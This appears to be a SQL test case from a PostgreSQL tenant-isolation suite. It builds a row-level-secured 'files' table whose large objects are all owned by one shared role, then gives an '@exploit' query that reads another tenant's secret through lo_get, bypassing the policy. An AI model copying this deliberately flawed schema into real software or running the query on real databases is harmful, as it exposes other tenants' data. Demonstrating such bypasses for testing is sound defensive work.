-- What: Files are large objects; all of them belong to the one role that all tenants share.
-- Class: large_object
-- Object: public.files
-- Exploit: lo_get with any oid of pg_largeobject_metadata; no policy binds large objects.
-- @schema
create table files (id bigint generated always as identity primary key, tenant_id uuid not null, content oid not null);
alter table files enable row level security;
alter table files force row level security;
create policy tenant on files using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on files to app_user;
-- @rows
insert into files (tenant_id, content) values (:'A', lo_from_bytea(0, 'A-row')), (:'B', lo_from_bytea(0, 'B-secret'));
do $$ declare f record; begin for f in select content from files loop execute format('alter large object %s owner to app_user',
  f.content); end loop; end $$;
-- @control
select from files where tenant_id = :'A';
-- @exploit
select from pg_largeobject_metadata m where lo_get(m.oid) = 'B-secret'::bytea;
